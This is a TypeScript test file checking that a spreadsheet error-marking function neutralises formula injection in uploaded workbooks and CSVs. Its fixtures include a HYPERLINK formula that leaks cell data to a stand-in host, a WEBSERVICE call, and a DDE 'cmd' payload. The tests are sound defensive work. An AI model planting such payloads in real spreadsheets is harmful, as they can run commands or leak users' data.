import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { markErrors } from '../../../server/spreadsheet/index.ts';
import { buildWorkbook, csvBytes } from '../../support/workbooks.ts';
import { parse } from './helpers.ts';

async function load(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

/** Every cell of every sheet: a formula as `=…`, anything else as its text. */
function cells(wb: ExcelJS.Workbook): { formulas: string[]; texts: string[] } {
  const formulas: string[] = [];
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        const v = c.value;
        if (v !== null && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v)) formulas.push(`=${String((v as { formula?: string }).formula)}`);
        else if (v !== null && typeof v === 'object' && 'hyperlink' in v) formulas.push(`hyperlink:${String(v.hyperlink)}`);
        else texts.push(String(v ?? ''));
      }),
    ),
  );
  return { formulas, texts };
}

describe('marked workbook: nothing live from the uploader', () => {
  it('when the uploaded workbook holds HYPERLINK, WEBSERVICE and DDE formulas and a hyperlink, then the marked workbook has none of them, only their values', async () => {
    const bytes = await buildWorkbook([
      {
        name: 'Kontoplan',
        rows: [
          ['Dimensjon', 'Kode', 'Navn'],
          ['art', '10100', { formula: 'HYPERLINK("http://example.invalid/?leak="&B3,"klikk")', result: 'klikk' }],
          ['art', '1O500', { formula: 'WEBSERVICE("http://example.invalid/"&B2)', result: 'svar' }],
          ['art', '10600', { formula: "cmd|' /C calc'!A0", result: '=2+3' }],
          ['art', '10700', { text: 'lenke', hyperlink: 'http://example.invalid' }],
        ],
      },
    ]);
    const result = await parse(bytes, 'k.xlsx', 'kontoplan');
    expect(result.errors.length).toBeGreaterThan(0);
    const wb = await load(await markErrors(bytes, 'k.xlsx', [...result.errors, ...result.warnings]));
    const { formulas, texts } = cells(wb);
    expect(formulas).toEqual([]);
    const ws = wb.getWorksheet('Kontoplan')!;
    expect(ws.getCell('C2').value).toBe('klikk');
    expect(ws.getCell('C3').value).toBe('svar');
    // a cached result that itself looks like a formula is neutralised too
    expect(ws.getCell('C4').value).toBe("'=2+3");
    expect(ws.getCell('C5').value).toBe('lenke');
    expect(ws.getCell('B3').fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } });
    expect(texts.filter((t) => /^[=+\-@]/.test(t) && !/^-?\d/.test(t))).toEqual([]);
  });

  it('when a CSV holds =cmd|… and other formula text, then the marked workbook has it as neutralised text that re-imports unchanged', async () => {
    const csv = 'Dimensjon;Kode;Navn\nart;10100;=cmd|\' /C calc\'!A0\nart;10500;@SUM(A1)\nart;1O600;+HYPERLINK("x")\n';
    const bytes = csvBytes(csv, { encoding: 'utf8' });
    const result = await parse(bytes, 'k.csv', 'kontoplan');
    const marked = await markErrors(bytes, 'k.csv', [...result.errors, ...result.warnings]);
    const wb = await load(marked);
    const ws = wb.getWorksheet('k')!;
    expect(ws.getCell('C2').value).toBe("'=cmd|' /C calc'!A0");
    expect(ws.getCell('C3').value).toBe("'@SUM(A1)");
    expect(ws.getCell('C4').value).toBe('\'+HYPERLINK("x")');
    expect(cells(wb).formulas).toEqual([]);
    // the user fixes the marked file and uploads it again: the names come back as they wrote them
    const again = await parse(marked, 'k-med-feilmarkering.xlsx', 'kontoplan');
    expect(again.records.map((r) => r.navn)).toEqual(["=cmd|' /C calc'!A0", '@SUM(A1)']);
  });

  it('when an issue is on an empty cell of an otherwise empty row, then the cell is still marked', async () => {
    const bytes = await buildWorkbook([
      {
        name: 'Art',
        rows: [
          ['Kode', 'Navn'],
          [10100, 'Fastlønn'],
          ['010', 'Tekst'],
        ],
      },
    ]);
    const wb = await load(await markErrors(bytes, 'k.xlsx', [{ code: 'x', severity: 'error', message: 'Mangler', sheet: 'Art', row: 4, column: 'B', cell: 'B4' }]));
    expect(wb.getWorksheet('Art')!.getCell('B4').fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } });
    expect(wb.getWorksheet('Art')!.getCell('A2').value).toBe(10100);
    expect(wb.getWorksheet('Art')!.getCell('A3').value).toBe('010');
  });

  it('when the file has more rows than a file may have, then only the Feil sheet comes back, saying why', async () => {
    const bytes = csvBytes(`Kode;Navn\r${'1;a\r'.repeat(260_000)}`, { encoding: 'utf8' });
    const wb = await load(await markErrors(bytes, 'mange.csv', [{ code: 'for_mange_rader', severity: 'error', message: 'For mange rader', sheet: null, row: null, column: null, cell: null }]));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Feil']);
    const alsoWithoutTheIssue = await load(await markErrors(bytes, 'mange.csv', []));
    expect(alsoWithoutTheIssue.worksheets.map((w) => w.name)).toEqual(['Feil']);
    expect(String(alsoWithoutTheIssue.getWorksheet('Feil')!.getCell('C2').value)).toContain('for mange rader');
  });
});
